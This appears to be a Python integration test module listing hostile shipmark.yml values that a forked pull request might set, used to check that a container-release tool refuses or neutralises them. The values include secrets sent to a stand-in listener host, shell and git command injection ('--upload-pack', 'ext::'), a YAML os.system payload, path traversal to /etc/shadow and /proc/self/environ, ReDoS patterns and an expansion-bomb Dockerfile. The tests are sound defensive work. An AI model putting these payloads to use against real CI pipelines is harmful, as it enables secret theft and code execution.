"""Each key of `shipmark.yml` with an outsider's value, run as a fork's pull request."""

from __future__ import annotations

from tests.integration.hostile.scene import CONFIG, FILES, Case

#: Key -> YAML of the whole file. `test_tables.py` fails when the schema has a key that is not here.
KEYS = {
    "image": "image: '@LISTENER@/x/${SUPERSECRET}'\n",
    "images": "images: ['@LISTENER@/x/app', 'oci:../victim/image']\n",
    "images.image": "images: [{image: '@LISTENER@/${GITHUB_TOKEN}'}]\n",
    "images.required": "images: [{image: '@LISTENER@/x', required: false}]\n",
    "images.moving": "images: [{image: '@LISTENER@/x', moving: false}]\n",
    "images.insecure": "images: [{image: 'ghcr.io/acme/app', insecure: true}]\n",
    "tags": CONFIG + "tags:\n  - type=raw,value={{env.SUPERSECRET}}\n",
    "flavor": CONFIG + "tags: [type=sha]\nflavor: ['prefix={{env.NPM_TOKEN}}']\n",
    "labels": CONFIG + "labels: {x: '{{env.SUPERSECRET}} ${NPM_TOKEN}'}\n",
    "annotations": CONFIG + "annotations: {x: '{{env.SUPERSECRET}} ${NPM_TOKEN}'}\n",
    "build.builder": "image: oci:dist/image\nbuild: {builder: docker}\n",
    "build.context": "image: oci:dist/image\nbuild: {builder: layers, context: ../victim}\n",
    "build.dockerfile": "image: oci:dist/image\nbuild: {builder: layers, dockerfile: ../victim/bashrc}\n",
    "build.files": "image: oci:dist/image\nbuild: {builder: layers, files: tracked}\n",
    "build.keep_git": "image: oci:dist/image\nbuild: {builder: layers, keep_git: true}\n",
    "build.allow_missing": "image: oci:dist/image\n"
    "build: {builder: layers, allow_missing: ['../victim', '@VICTIM@']}\n",
    "build.target": "image: oci:dist/image\nbuild: {builder: layers, target: '$(@TRAP@)'}\n",
    "build.args": "image: oci:dist/image\n"
    "build: {builder: layers, args: {A: '${SUPERSECRET}', B: '{{env.NPM_TOKEN}}'}}\n",
    "build.platforms": "image: oci:dist/image\nbuild: {builder: layers, platforms: ['linux/amd64', '../../x']}\n",
    "build.compression": "image: oci:dist/image\nbuild: {builder: layers, compression: zstd}\n",
    "build.secrets": "image: oci:dist/image\nbuild: {builder: buildkit, secrets: ['id=a,src=../victim/bashrc']}\n",
    "build.ssh": "image: oci:dist/image\nbuild: {builder: buildkit, ssh: ['a=../victim/agent']}\n",
    "build.cache_from": "image: oci:dist/image\n"
    "build: {builder: buildkit, cache_from: ['type=registry,ref=@LISTENER@/acme/cache']}\n",
    "build.cache_to": "image: oci:dist/image\n"
    "build: {builder: buildkit, cache_to: ['type=local,dest=../victim/cache']}\n",
    "build.contexts": "image: oci:dist/image\nbuild: {builder: buildkit, contexts: {a: ../victim}}\n",
    "build.network": "image: oci:dist/image\nbuild: {builder: layers, network: host}\n",
    "build.builder_name": "image: oci:dist/image\nbuild: {builder: buildkit, builder_name: '$(@TRAP@)'}\n",
    "build.provenance": "image: oci:dist/image\nbuild: {builder: layers, provenance: max}\n",
    "build.push": "image: oci:dist/image\nbuild: {builder: layers, push: by-digest}\n",
    "build.sbom": "image: oci:dist/image\nbuild: {builder: layers, sbom: true}\n",
    "build.foreign_binaries": "image: oci:dist/image\n"
    "build: {builder: layers, foreign_binaries: ['../../**', '!*', '[']}\n",
    "prefix": CONFIG + "prefix: '$(@TRAP@)/'\n",
    "paths": CONFIG + "paths: ['../../**', '/etc/**', '!(a+)+b']\n",
    "depends": CONFIG + "depends: ['../x', '$(@TRAP@)']\n",
    "bump.types": CONFIG + "bump: {types: {'$(@TRAP@)': major}}\n",
    "bump.major_on_zero": CONFIG + "bump: {major_on_zero: true}\n",
    "bump.paths": CONFIG + "bump: {paths: ['../../**', '(a+)+b']}\n",
    "bump.calver": CONFIG + "bump: {calver: '{{env.SUPERSECRET}}'}\n",
    "retention.delete": CONFIG + "retention: {delete: [{pattern: '(a+)+b'}, {match: '@TRAP@'}]}\n",
    "retention.keep": CONFIG + "retention: {keep: [{match: '[', semver: '$(@TRAP@)'}]}\n",
    "retention.immutable": CONFIG + "retention: {immutable: ['*a*a*a*a*a*b', '[']}\n",
    "retention.grace": CONFIG + "retention: {grace: '@TRAP@'}\n",
    "retention.age": CONFIG + "retention: {age: created}\n",
    "retention.limits": CONFIG + "retention: {limits: {max_delete: 1000000, max_fraction: 1}}\n",
    "retention.trash": CONFIG + "retention: {trash: {repository: '../@TRAP@', keep: 0d}}\n",
    "retention.in_use": CONFIG + "retention: {in_use: [{command: ['@TRAP@']}, {file: /etc/shadow}]}\n",
    "versions": CONFIG + "versions: none\n",
    "ignore_tags": CONFIG + "ignore_tags: ['*a*a*a*a*a*a*a*a*a*b', '[', '$(@TRAP@)']\n",
    "release_on": CONFIG + "release_on: [pull_request, push, '$(@TRAP@)']\n",
    "events": CONFIG + "events: as-action\ntags: ['type=raw,value=a']\n",
    "latest": CONFIG + "latest: default-branch\n",
    "reuse": CONFIG + "reuse: commit\n",
    "attest": CONFIG + "attest: release\n",
    "checks": CONFIG + "checks: [{name: x, run: ['@TRAP@']}]\n",
    "checks.name": CONFIG + "checks: [{name: '../x', run: ['@TRAP@']}]\n",
    "checks.run": CONFIG + "checks: [{name: x, run: [sh, -c, '@TRAP@ ${SUPERSECRET}']}]\n",
    "checks.timeout": CONFIG + "checks: [{name: x, run: ['@TRAP@'], timeout: 1}]\n",
    "pull_requests": "image: '@LISTENER@/acme/app'\npull_requests: true\nbuild: {builder: layers}\n",
    "base": CONFIG + "base: nearest\n",
    "channels": CONFIG + "channels: ['$(@TRAP@)', '../x']\n",
    "project": CONFIG + "project: '@LISTENER@/${SUPERSECRET}'\n",
    "components": "components: {'../x': {image: '@LISTENER@/x/${SUPERSECRET}'}, b: {image: oci:dist/b, log: file}}\n",
    "log": CONFIG + "log: [file, git, {store: sql, url: 'postgresql://u@@LISTENER@/${SUPERSECRET}'}]\n",
    "log.store": CONFIG + "log: {store: git}\n",
    "log.path": CONFIG + "log: {path: '@VICTIM@/log.jsonl'}\n",
    "log.ref": CONFIG + "log: {store: git, ref: '--upload-pack=@TRAP@'}\n",
    "log.remote": CONFIG + "log: {store: git, remote: 'ext::@TRAP@ %S'}\n",
    "log.url": CONFIG + "log: {store: sql, url: 'postgresql://u:${PGPASSWORD}@@LISTENER@/x'}\n",
    "requires": CONFIG + "requires: '>=99 $(@TRAP@)'\n",
    "log.allow_network_fs": CONFIG + "log: {path: /proc/self/environ, allow_network_fs: true}\n",
}

#: Keys that a fork may not set: they change nothing, and the check stays green.
_DENIED = frozenset(
    """
    images.insecure images.create checks checks.name checks.run checks.timeout
    requires log log.store log.path log.ref log.remote log.url log.allow_network_fs
    retention.delete retention.keep retention.immutable retention.grace retention.age retention.limits retention.in_use
    retention.trash
    """.split()  # noqa: SIM905  # quoted names would hide the list
)
_GREEN = {"tags": 0, "version": 0, "preview": 0, "run": 0}

CASES = (
    *(
        Case(
            f"key-{key}",
            files={"Dockerfile": FILES["Dockerfile"] + "ARG A\nARG B\n"},
            config=text,
            fork=True,
            codes=_GREEN if key in _DENIED else {},
        )
        for key, text in KEYS.items()
    ),
    Case("key-unknown", config=CONFIG + "plugins: ['@TRAP@']\n", codes={"tags": 2, "run": 2}),
    Case("config-is-binary", config=bytes(range(256)) * 8, codes={"tags": 2, "run": 2}),
    Case("config-is-huge", config=b"# " + b"x" * (2 << 20), codes={"tags": 2, "run": 2}),
    Case(
        "config-is-python", config="!!python/object/apply:os.system ['@TRAP@']\n", codes={"tags": 2, "run": 2}
    ),
    Case(
        "config-has-a-merge-key",
        config="x: &x {image: oci:dist/image}\n<<: *x\n",
        codes={"tags": 2, "run": 2},
    ),
    Case(
        "dockerfile-of-many-lines", files={"Dockerfile": b"FROM scratch\n" + b"COPY hello /x\\\n" * 200_000}
    ),
    Case(
        "dockerfile-of-expansions",
        files={
            "Dockerfile": "FROM scratch\n"
            "ARG A0=xx\n"
            + "".join(f"ARG A{n}=${{A{n - 1}}}${{A{n - 1}}}\n" for n in range(1, 40))
            + "LABEL x=$A39\nCOPY hello /\n"
        },
    ),
    Case(
        "dockerfile-frontend",
        files={
            "Dockerfile": "# syntax=@LISTENER@/evil\nFROM @LISTENER@/base\n"
            "COPY hello /\nRUN @TRAP@\nADD http://@LISTENER@/x /\n"
        },
    ),
    Case("ignore-of-many-stars", files={".dockerignore": "**/*" * 2000 + "\n" + "!**/a/**\n" * 2000}),
)
